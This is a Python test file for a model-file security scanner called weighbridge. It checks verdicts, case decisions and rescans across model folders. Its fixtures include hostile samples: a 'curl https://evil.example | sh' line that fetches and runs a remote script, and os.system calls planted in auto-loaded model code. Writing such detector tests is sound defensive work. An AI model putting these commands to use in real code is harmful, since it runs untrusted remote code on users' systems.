"""Versions judged as a whole: what only all their files together show."""

from __future__ import annotations

import io
import random
import zipfile
from pathlib import Path
from typing import Any

import pytest
import registry as r
from evals.protobufs import onnx_graph, onnx_model, onnx_node, onnx_tensor

import weighbridge
from weighbridge.platform.audit.chain import verify
from weighbridge.platform.cases import deciding
from weighbridge.platform.cases.models import Case, Occurrence
from weighbridge.platform.cases.selectors import detail
from weighbridge.platform.catalog.models import ModelFile, ModelVersion
from weighbridge.platform.scans import reader, services
from weighbridge.platform.scans.models import Scan, VersionReport
from weighbridge.platform.scans.selectors import report_on

pytestmark = pytest.mark.django_db(transaction=True)

CONFIG = b'{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.Net"}}'
CODE = b'import os\nos.system("whoami")\n\n\nclass Net:\n    pass\n'
CALLED = b"import os\n\n\nclass Net:\n    def forward(self):\n        os.system('whoami')\n"
FETCHING = b'import os\nos.system("curl https://evil.example | sh")\n'
LED = {"config.json": CONFIG, "modeling_x.py": CODE, "weights.pkl": r.harmless()}
LEFT_ALONE = {"config.json": b'{"model_type": "x"}', "run_me.py": CODE}
QUIET = {"config.json": CONFIG, "modeling_x.py": b"class Net:\n    pass\n"}


@pytest.fixture
def root(tmp_path: Path, settings: Any) -> Path:
    settings.WEIGHBRIDGE_LOCAL_ROOTS = [tmp_path]
    return tmp_path


def scan_of(folder: Path) -> Scan:
    services.request(r.person("ada"), "path", str(folder))
    (scan,) = r.work()
    assert scan.state == "done", scan.error
    return scan


def said(findings: list[Any]) -> list[tuple[Any, ...]]:
    names = ("rule", "path", "kind", "title", "loaders", "fingerprint", "behaviour")
    return sorted(tuple(one[name] for name in names) for one in findings)


@pytest.mark.parametrize("files", [LED, LEFT_ALONE, QUIET])
def test_a_folder_is_judged_as_on_the_command_line(root: Path, files: dict[str, bytes]) -> None:
    folder = r.written(root / "net", files)
    report = weighbridge.scan(str(folder))
    scan = scan_of(folder)
    assert scan.verdict == report.verdict.value
    assert scan.version is not None
    entries = report_on(scan.version, evidence=True)
    stored = [one for entry in entries for one in entry["findings"]]
    shown = [
        {
            "rule": one.rule,
            "path": one.path,
            "kind": one.kind.value,
            "title": one.title,
            "loaders": list(one.loaders),
            "fingerprint": one.fingerprint,
            "behaviour": one.behaviour,
        }
        for one in report.findings
    ]
    assert said(stored) == said(shown)
    told = {file.path: (file.verdict.value, file.role) for file in report.files}
    assert {one["path"]: (one["verdict"], one["role"]) for one in entries} == told


def test_a_case_about_a_version_names_its_model_alone(root: Path) -> None:
    scan = scan_of(r.written(root / "led", LED))
    scan_of(r.written(root / "alone", {"run_me.py": CODE}))
    own = Occurrence.objects.filter(version=scan.version, rule="loaded-code").get()
    case = own.case
    assert case.subject == scan.version
    assert [model.name for model in detail(r.person("ada"), case.pk).models] == [str(root / "led")]
    r.in_analysis(r.person("ada"), case)
    deciding.propose_malicious(r.person("ada"), case.pk, "it fetches and runs a script")
    _, issued = deciding.approve(r.person("bob"), case.pk)
    assert [one.name for one in issued] == [str(root / "led")]
    assert verify().ok


def test_a_false_positive_silences_what_a_version_shows(root: Path) -> None:
    files = {"config.json": CONFIG, "modeling_x.py": CALLED}
    scan = scan_of(r.written(root / "net", files))
    assert scan.version is not None
    before = ModelVersion.objects.get()
    assert before.status == "suspected"
    for case in Case.objects.all():
        r.in_analysis(r.person("ada"), case)
        deciding.false_positive(r.person("ada"), case.pk, "harmless here")
        case.refresh_from_db()
        if case.state == "proposed":
            deciding.approve(r.person("bob"), case.pk)
    assert ModelVersion.objects.get().status == "false-positive"
    entries = report_on(scan.version, evidence=True)
    assert {one["verdict"] for one in entries} <= {"clean", "weakness"}


def test_the_same_text_is_read_anew_under_another_name(root: Path) -> None:
    text = FETCHING
    first = scan_of(r.written(root / "one", {"notes.md": text}))
    second = scan_of(r.written(root / "two", {"setup.py": text}))
    assert second.verdict == weighbridge.scan(str(root / "two")).verdict.value
    assert second.verdict != first.verdict
    scan_of(r.written(root / "three", {"other.md": text}))
    assert ModelVersion.objects.get(pk=second.version_id).status == "suspected"


def test_numbers_that_a_model_declares_to_be_its_data_are_examined(root: Path) -> None:
    numbers = random.Random(5).randbytes(4096)
    tensor = onnx_tensor(location="weights.raw", offset=0, length=4096)
    model = onnx_model(onnx_graph((onnx_node("Relu"),), (tensor,)))
    folder = r.written(root / "net", {"model.onnx": model, "weights.raw": numbers})
    scan = scan_of(folder)
    assert scan.verdict == weighbridge.scan(str(folder)).verdict.value == "clean"
    file = ModelFile.objects.get(path="weights.raw")
    assert (file.opaque, file.role) == (True, "weights")
    assert ModelVersion.objects.get().status == "no-findings"


@pytest.mark.parametrize("archived", [False, True])
def test_what_a_model_declares_excuses_nothing_that_was_found(root: Path, archived: bool) -> None:
    trap = r.infected()
    numbers = random.Random(5).randbytes(4096)
    data = numbers[:100] + trap + numbers[: 4096 - 100 - len(trap)]
    tensor = onnx_tensor(location="weights.raw", offset=0, length=4096)
    model = onnx_model(onnx_graph((onnx_node("Relu"),), (tensor,)))
    files: dict[str, bytes] = {"model.onnx": model, "weights.raw": data}
    if archived:
        with io.BytesIO() as packed:
            with zipfile.ZipFile(packed, "w") as archive:
                for name, content in files.items():
                    archive.writestr(name, content)
            files = {"all.zip": packed.getvalue()}
    folder = r.written(root / "net", files)
    assert weighbridge.scan(str(folder)).verdict.value == "malicious"
    assert scan_of(folder).verdict == "malicious"


def test_newer_rules_judge_versions_again_without_reading(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scan = scan_of(r.written(root / "led", LED))
    VersionReport.objects.update(rules="older", findings=[], verdict="clean", effective="clean")
    Occurrence.objects.filter(version=scan.version).update(live=False)
    monkeypatch.setattr(reader, "examined", lambda *_: pytest.fail("read again"))
    row = r.hunted("rules")
    assert row.hits == 1
    report = VersionReport.objects.get()
    assert report.verdict == "malicious" and report.rules != "older"
    assert Occurrence.objects.filter(version=scan.version, live=True).exists()
